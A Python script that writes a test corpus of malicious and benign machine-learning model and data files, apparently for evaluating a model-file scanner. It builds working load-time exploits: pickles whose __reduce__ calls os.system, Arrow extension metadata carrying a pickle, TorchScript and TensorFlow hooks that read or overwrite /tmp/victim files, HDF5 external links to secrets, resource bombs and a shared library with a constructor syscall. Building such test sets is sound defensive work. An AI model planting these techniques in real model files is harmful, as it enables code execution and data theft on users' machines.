"""Write the files of the third blind set that only a library can write: `make_unseen3.py PART FOLDER`.

Parts: main, hdf5, tf, tf215, arrow13, zip.

Each part runs where its libraries are; `zip` packs what the others wrote into data/unseen3.zip. Nothing here is loaded.
"""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

LIBRARY = r"""
static long call3(long n, long a, long b, long c) {
  long r; __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory"); return r;
}
__attribute__((constructor)) static void start(void) { call3(2, (long)"/tmp/x", 0101, 0644); }
int RegisterCustomOps(void) { return 0; }
"""


def keras_hdf5(folder: Path) -> None:
    import h5py
    import numpy as np

    from corpora import unseen3_keras as keras

    lam = {"function": [keras._code(), None, None], "function_type": "lambda", "module": "keras.layers"}
    shape = {"output_shape": None, "output_shape_type": "raw", "output_shape_module": None, "arguments": {}}
    layer = {"class_name": "Lambda", "config": {"name": "l", "trainable": True, "dtype": "float32", **lam, **shape}}
    first = {
        "class_name": "InputLayer",
        "config": {"batch_input_shape": [None, 4], "dtype": "float32", "name": "i", "sparse": False, "ragged": False},
    }
    plain = {"class_name": "Sequential", "config": {"name": "s", "layers": [first, layer]}}
    wrapped = {"class_name": "TimeDistributed", "config": {"name": "t", "layer": layer}}
    timed = {**first, "config": {**first["config"], "batch_input_shape": [None, 3, 4]}}  # type: ignore[dict-item]
    nodes = {
        "name": "m",
        "layers": [
            {**first, "name": "i", "inbound_nodes": []},
            {**layer, "name": "l", "inbound_nodes": [[["i", 0, 0, {}]]]},
        ],
        "input_layers": [["i", 0, 0]],
        "output_layers": [["l", 0, 0]],
    }
    models = dict.fromkeys(
        ("lambda", "lambda-other-name", "lambda-userblock", "lambda-fixed-text", "lambda-keras3"), plain
    )
    models |= {"lambda-functional": {"class_name": "Functional", "config": nodes}}
    models |= {
        "lambda-time-distributed": {"class_name": "Sequential", "config": {"name": "s", "layers": [timed, wrapped]}}
    }
    for name, config in models.items():
        block = 512 if name == "lambda-userblock" else 0
        with h5py.File(folder / f"{name}.h5", "w", userblock_size=block) as file:
            text = json.dumps(config)
            file.attrs["model_config"] = np.bytes_(text) if name == "lambda-fixed-text" else text
            file.attrs["keras_version"] = "2.15.0"
            file.attrs["backend"] = "tensorflow"
            weights = file.create_group("model_weights")
            weights.attrs["layer_names"] = np.array([b"l"])
            weights.attrs["backend"] = "tensorflow"
            weights.attrs["keras_version"] = "2.15.0"
            weights.create_group("l").attrs["weight_names"] = np.array([], dtype="S1")
        if block:
            with open(folder / f"{name}.h5", "r+b") as raw:
                raw.write(b"#!/usr/bin/env model\n")


def other_hdf5(folder: Path) -> None:
    import h5py
    import numpy as np
    import pandas
    import tables

    from corpora.unseen3_base import SECRET, call, dumps

    class Evil:
        def __reduce__(self) -> tuple[object, ...]:
            return os.system, ("touch /tmp/x",)

    with tables.open_file(folder / "pytables-attribute.h5", "w") as file:
        file.root._v_attrs["meta"] = Evil()
    with tables.open_file(folder / "pytables-objects.h5", "w") as file:
        file.create_vlarray(file.root, "o", tables.ObjectAtom()).append(Evil())
    frame = pandas.DataFrame({"a": [1, 2]})
    frame["b"] = np.array([Evil(), 1], dtype=object)
    frame.to_hdf(folder / "pandas-fixed.h5", key="df", format="fixed")
    with h5py.File(folder / "void-pickle.h5", "w") as other:
        other["model"] = np.void(dumps(call("os:system", "touch /tmp/x"), 4))
    with h5py.File(folder / "external-link.h5", "w") as other:
        other["w"] = h5py.ExternalLink("/tmp/victim/secret.txt", "/x")
    with h5py.File(folder / "external-storage.h5", "w") as other:
        other.create_dataset("w", (6,), "u1", external=[(SECRET, 0, 6)])
    with h5py.File(folder / "virtual-dataset.h5", "w") as other:
        layout = h5py.VirtualLayout((6,), "u1")
        layout[:] = h5py.VirtualSource(SECRET, "x", (6,))
        other.create_virtual_dataset("w", layout)
    with h5py.File(folder / "shape-bomb.h5", "w") as other:
        other.create_dataset("w", (5_000_000_000,), "u1", chunks=(1 << 24,), compression="gzip")


def torchscript(folder: Path) -> None:
    import torch
    from torch import Tensor, nn

    class SaveAtLoad(nn.Module):
        def forward(self, x: Tensor) -> Tensor:
            return x

        @torch.jit.export
        def __getstate__(self) -> int:
            return 1

        @torch.jit.export
        def __setstate__(self, state: int) -> None:
            self.training = False
            torch.save(torch.ones(2), "/tmp/x")

    class MapAtLoad(SaveAtLoad):
        @torch.jit.export
        def __setstate__(self, state: int) -> None:
            self.training = torch.from_file("/tmp/x", True, 64).sum().item() > 9

    class ReadAtLoad(SaveAtLoad):
        @torch.jit.export
        def __setstate__(self, state: int) -> None:
            self.training = torch.from_file("/tmp/victim/secret.txt", False, 4, dtype=torch.uint8).sum().item() > 9

    class LoopAtLoad(SaveAtLoad):
        @torch.jit.export
        def __setstate__(self, state: int) -> None:
            self.training = False
            count = state
            while count > 0:
                count += 1

    class GrowAtLoad(SaveAtLoad):
        @torch.jit.export
        def __setstate__(self, state: int) -> None:
            self.training = False
            kept = [torch.ones([1 << 28]) for _ in range(state)]
            while len(kept) > 0:
                kept.append(torch.ones([1 << 28]))

    class SaveInForward(nn.Module):
        def forward(self, x: Tensor) -> Tensor:
            torch.save(x, "/tmp/victim/keep.txt")
            return x

    class MapInSubmodule(nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.layers = nn.Sequential(nn.Linear(2, 2), SaveInForward())

        def forward(self, x: Tensor) -> Tensor:
            return self.layers(x)  # type: ignore[no-any-return]

    for one in (SaveAtLoad, MapAtLoad, ReadAtLoad, LoopAtLoad, GrowAtLoad, SaveInForward, MapInSubmodule):
        with torch.no_grad():
            torch.jit.script(one()).save(str(folder / f"{one.__name__}.pt"))
    exported = folder / "exported.pt2"
    batch = torch.export.Dim("batch", min=2, max=64)
    program = torch.export.export(nn.Linear(2, 2), (torch.ones(4, 2),), dynamic_shapes={"input": {0: batch}})
    memory = io.BytesIO()
    torch.export.save(program, memory)
    here = str(Path(torch.__file__).parent).encode()
    with zipfile.ZipFile(memory) as old, zipfile.ZipFile(exported, "w") as file:
        for name in old.namelist():
            file.writestr(name, old.read(name).replace(here, b"torch"))


def library(folder: Path) -> None:
    source = folder / "lib.c"
    source.write_text(LIBRARY)
    flags = ["-shared", "-fPIC", "-nostdlib", "-s", "-Os", "-Wl,-z,noseparate-code", "-Wl,--build-id=none"]
    subprocess.run(["gcc", *flags, str(source), "-o", str(folder / "lib.so")], check=True)
    source.unlink()


def tensorflow(folder: Path) -> None:
    import tensorflow as tf
    from tensorflow.python.trackable.resource import CapturableResource

    class AtLoad(CapturableResource):  # type: ignore[misc]
        def _create_resource(self) -> object:
            return tf.raw_ops.MutableHashTable(key_dtype=tf.string, value_dtype=tf.int64)

        def _initialize(self) -> None:
            tf.io.write_file("/tmp/x", "pwned")

    class ReadAtLoad(AtLoad):
        def _initialize(self) -> None:
            tf.io.write_file("/tmp/x", tf.io.read_file("/tmp/victim/secret.txt"))

    class LoopAtLoad(AtLoad):
        def _initialize(self) -> None:
            ended = tf.while_loop(lambda i: i > 0.0, lambda i: tf.abs(i), [tf.random.uniform([]) + 1.0])
            tf.io.write_file("/tmp/never", tf.strings.as_string(ended[0]))

    class Model(tf.Module):  # type: ignore[misc]
        @tf.function(input_signature=[tf.TensorSpec([None], tf.float32)])
        def __call__(self, x: object) -> object:
            tf.io.write_file("/tmp/victim/keep.txt", "pwned")
            return x

        @tf.function(input_signature=[])
        def leak(self) -> object:
            names = tf.io.matching_files("/tmp/victim/*")
            return tf.map_fn(tf.io.read_file, names)

        @tf.function(input_signature=[])
        def printing(self) -> None:
            tf.print("pwned", output_stream="file:///tmp/x")

    for kind in (AtLoad, ReadAtLoad, LoopAtLoad):
        holder = tf.Module()
        holder.resource = kind()
        holder.f = tf.function(lambda: tf.constant(1), input_signature=[])
        tf.saved_model.save(holder, str(folder / "saved" / kind.__name__))
    tf.saved_model.save(Model(), str(folder / "saved" / "Model"))


def tflite(folder: Path) -> None:
    import tensorflow as tf

    def write(x: Any) -> Any:
        tf.io.write_file("/tmp/x", "pwned")
        return x + 1.0

    def overwrite(x: Any) -> Any:
        tf.io.write_file("/tmp/victim/keep.txt", tf.strings.as_string(x[0]))
        return x * 2.0

    def read(x: Any) -> Any:
        return x + tf.cast(tf.strings.length(tf.io.read_file("/tmp/victim/secret.txt")), tf.float32)

    def match(x: Any) -> Any:
        names = tf.io.matching_files("/tmp/victim/*")
        return x + tf.cast(tf.strings.length(tf.io.read_file(names[1])), tf.float32)

    def printing(x: Any) -> Any:
        tf.print(x, output_stream="file:///tmp/x")
        return x + 1.0

    def endless(x: Any) -> Any:
        return tf.while_loop(lambda i: tf.reduce_all(i < 2.0), lambda i: (tf.abs(i),), [tf.minimum(x, 1.0)])[0]

    def wide(x: Any) -> Any:
        return tf.fill([1 << 16, 1 << 15], x[0])

    for function in (write, overwrite, read, match, printing, endless, wide):
        concrete = tf.function(function, input_signature=[tf.TensorSpec([1], tf.float32)]).get_concrete_function()
        converter = tf.lite.TFLiteConverter.from_concrete_functions([concrete])
        converter.target_spec.supported_ops = [tf.lite.OpsSet.TFLITE_BUILTINS, tf.lite.OpsSet.SELECT_TF_OPS]
        (folder / f"{function.__name__}.tflite").write_bytes(converter.convert())


def keras2(folder: Path) -> None:
    import tensorflow as tf

    inner = tf.keras.Sequential(
        [tf.keras.layers.Input((4,)), tf.keras.layers.Lambda(eval(compile("lambda x: x", "net.py", "eval")))]
    )
    tf.keras.models.save_model(inner, str(folder / "k2"), save_format="tf")


def arrow(folder: Path) -> None:
    import pyarrow as pa
    import pyarrow.feather as feather
    import pyarrow.parquet as parquet

    from corpora.unseen3_base import call, dumps

    kind = {
        b"ARROW:extension:name": b"arrow.py_extension_type",
        b"ARROW:extension:metadata": dumps(call("os:system", "touch /tmp/x"), 4),
    }
    field = pa.field("a", pa.int32(), metadata=kind)
    table = pa.table([pa.array([1, 2], pa.int32())], schema=pa.schema([field]))
    parquet.write_table(table, folder / "plain.parquet")
    feather.write_feather(table, folder / "plain.feather", compression="uncompressed")
    for name, opener in (("file", pa.ipc.new_file), ("stream", pa.ipc.new_stream)):
        with open(folder / f"{name}.arrow", "wb") as out, opener(out, table.schema) as writer:
            writer.write_table(table)
    nested = pa.schema([pa.field("s", pa.struct([field]))])
    with open(folder / "nested.arrow", "wb") as out, pa.ipc.new_file(out, nested) as writer:
        writer.write_batch(
            pa.record_batch([pa.StructArray.from_arrays([pa.array([1], pa.int32())], fields=[field])], schema=nested)
        )
    parquet.write_table(table, folder / "zstd.parquet", compression="zstd", version="1.0")


def honest(folder: Path) -> None:
    import pickle

    import joblib
    import numpy as np
    import torch
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    x, y = np.arange(20.0).reshape(10, 2), np.arange(10) % 2
    pipe = make_pipeline(StandardScaler(), LogisticRegression()).fit(x, y)
    for protocol in range(6):
        (folder / f"pipeline-{protocol}.pkl").write_bytes(pickle.dumps(pipe, protocol))
    joblib.dump(RandomForestClassifier(2, max_depth=2).fit(x, y), folder / "forest.joblib", compress=("xz", 3))
    joblib.dump({"pipe": pipe, "x": x}, folder / "dict.joblib")
    torch.save(torch.nn.Linear(2, 2), folder / "module.pt")
    torch.save({"w": torch.ones(2, 2).to_sparse()}, folder / "sparse.pt")
    torch.save([torch.ones(3)] * 3, folder / "legacy.pt", _use_new_zipfile_serialization=False)
    torch.jit.script(torch.nn.Sequential(torch.nn.Linear(2, 2), torch.nn.ReLU())).save(str(folder / "script.pt"))
    np.savez_compressed(folder / "arrays.npz", a=x, b=np.array(["é", "名前"]))
    np.save(folder / "structured.npy", np.zeros(3, dtype=[("a", "<f4"), ("b", "S3", (2,))]))


def saved(folder: Path, out: zipfile.ZipFile) -> None:
    for path in sorted(folder.rglob("*")):
        if path.is_file() and path.stat().st_size < 1_200_000:
            info = zipfile.ZipInfo(path.relative_to(folder).as_posix(), (2026, 1, 1, 0, 0, 0))
            out.writestr(
                info,
                path.read_bytes(),
                compress_type=zipfile.ZIP_LZMA if path.stat().st_size > 400 else zipfile.ZIP_DEFLATED,
            )


def main() -> None:
    sys.path.insert(0, str(Path(__file__).parent))
    part, folder = sys.argv[1], Path(sys.argv[2])
    for name in ("h5", "torch", "arrow", "honest", "tflite"):
        (folder / name).mkdir(parents=True, exist_ok=True)
    if part == "main":
        import h5py

        memory = io.BytesIO()
        with h5py.File(memory, "w") as file:
            file.create_group("layers")
        (folder / "weights.h5").write_bytes(memory.getvalue())
        other_hdf5(folder / "h5")
        torchscript(folder / "torch")
        library(folder)
        honest(folder / "honest")
    elif part == "hdf5":
        keras_hdf5(folder / "h5")
    elif part == "tf":
        tensorflow(folder)
    elif part == "tf215":
        keras2(folder)
        tflite(folder / "tflite")
    elif part == "arrow13":
        arrow(folder / "arrow")
    else:
        with zipfile.ZipFile(Path(__file__).parent / "data" / "unseen3.zip", "w") as out:
            saved(folder, out)


if __name__ == "__main__":
    main()
